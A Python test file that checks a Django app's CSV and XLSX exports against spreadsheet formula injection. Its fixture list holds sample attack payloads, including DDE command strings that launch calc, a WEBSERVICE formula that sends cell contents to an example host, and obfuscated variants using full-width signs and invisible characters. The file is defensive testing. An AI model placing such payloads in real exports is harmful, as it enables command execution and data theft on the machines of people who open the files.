"""What somebody typed is never run by whoever opens a list: no cell of any file is a formula."""

import csv
from datetime import UTC, date, datetime
from io import BytesIO, StringIO

import pytest
from django.utils import timezone

from insights.exports.cells import guarded, plain
from insights.exports.files import csv_pieces, write_xlsx
from tests.insights.files import cells_of, lines_of, parts_of

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
RUNS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org","here")',
    '=WEBSERVICE("https://example.org/?"&A1)',
    "=IMPORTXML(CONCAT(A1),1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\ttext after a tab",
    "\rtext after a return",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003@A1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2060-1",
    '"=1+1',
    '""=1+1"',
    "'=1+1",
    "' =1+1",
    "“=1+1”",
    "`=1+1`",
    '" \t=1+1"',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    " \uff1d1+1",
    "\ufe661+1",
    "\u22121+1",
    "text;=1+1",
    "text; +1",
    'text;"=1+1"',
    "text\t=1+1",
    "text\n=1+1",
    "text\r\n-1+1",
    "one\n\n\uff0btwo",
    "\x01=1+1",
    "\x7f=1+1",
    "\x0b=1+1",
    "=\n",
    "-",
)
HARMLESS = ("Ada Quill", "a = b", "well-known", "ada@example.org", "1 + 1", "", "«so»", "é", "#N/A")


def starts_as_formula(cell: str) -> bool:
    """Say, on its own terms, whether a spreadsheet may take the start of `cell` for a formula."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    bare = "".join(one for one in cell if one.isprintable() and not one.isspace())
    return bare.lstrip('"`‘’‚“”„«»\ufeff')[:1] in tuple(SIGNS)


def parts_anywhere(text: str) -> list[str]:
    """Return the cells that `text` falls into where others part cells than commas do."""
    return [cell for sign in ";\t\n\r\v\f" for cell in text.split(sign)]


@pytest.mark.parametrize("typed", RUNS)
def test_no_text_starts_as_a_formula_wherever_it_is_parted(typed: str) -> None:
    """Seen red without the full-width signs, and without the parts after a semicolon."""
    written = guarded(typed)
    assert not any(starts_as_formula(cell) for cell in (written, *parts_anywhere(written)))


@pytest.mark.parametrize("typed", HARMLESS)
def test_what_is_no_formula_stays_as_it_was_typed(typed: str) -> None:
    """Seen red by marking signs wherever they stand."""
    assert guarded(typed) == typed


def test_a_csv_file_has_each_text_in_one_cell_and_none_starts_as_a_formula() -> None:
    """Seen red without quotes, without the parts after a semicolon, and without the first mark."""
    file = b"".join(csv_pieces(["Said"], ([plain(typed)] for typed in RUNS)))
    lines = lines_of(file)
    assert [len(line) for line in lines] == [1] * (len(RUNS) + 1)
    assert not any(starts_as_formula(line[0]) for line in lines)
    for delimiter in ";\t":  # as some spreadsheets read it all the same
        text = file.decode().removeprefix("\ufeff")
        for line in csv.reader(StringIO(text, newline=""), delimiter=delimiter):
            assert not any(starts_as_formula(cell) for cell in line), line


def test_a_workbook_has_texts_and_no_formula() -> None:
    """Seen red by leaving the type of a cell to the library, which makes "#N/A" an error."""
    target = BytesIO()
    write_xlsx(["Said"], ([plain(typed)] for typed in (*RUNS, *HARMLESS)), target)
    cells = cells_of(target.getvalue())
    assert len(cells) == len(RUNS) + len(HARMLESS) + 1
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert not any(starts_as_formula(cell.value or "") for cell in cells)
    parts = parts_of(target.getvalue())
    assert not any("<f>" in part or "<f " in part for part in parts.values())


def test_even_a_text_that_nobody_guarded_is_no_formula_in_a_workbook() -> None:
    """Seen red by handing texts over as they are."""
    target = BytesIO()
    write_xlsx(["Said"], [["=1+1"], ["#REF!"]], target)
    assert [cell.data_type for cell in cells_of(target.getvalue())] == ["s", "s", "s"]


def test_days_moments_and_numbers_stay_what_they_are() -> None:
    """A moment is the reader's own, to the minute. Seen red in UTC, and with numbers as texts."""
    moment = datetime(2030, 3, 12, 22, 30, 59, tzinfo=UTC)
    with timezone.override("Asia/Tokyo"):
        told = [plain(value) for value in (None, True, 0, -3, date(2030, 3, 12), moment)]
    assert told == ["", "yes", 0, -3, date(2030, 3, 12), datetime(2030, 3, 13, 7, 30)]  # noqa: DTZ001 a cell knows no zone
    lines = lines_of(b"".join(csv_pieces(["a"], [told])))
    assert lines[1] == ["", "yes", "0", "-3", "2030-03-12", "2030-03-13 07:30"]


def test_what_no_workbook_has_room_for_does_not_break_it() -> None:
    """Seen red by handing such signs over as they are."""
    target = BytesIO()
    write_xlsx(["Said"], [[plain("a\x00b\x0bc\ufffe")]], target)
    assert cells_of(target.getvalue())[1].value == "a\ufffdb\ufffdc\ufffd"
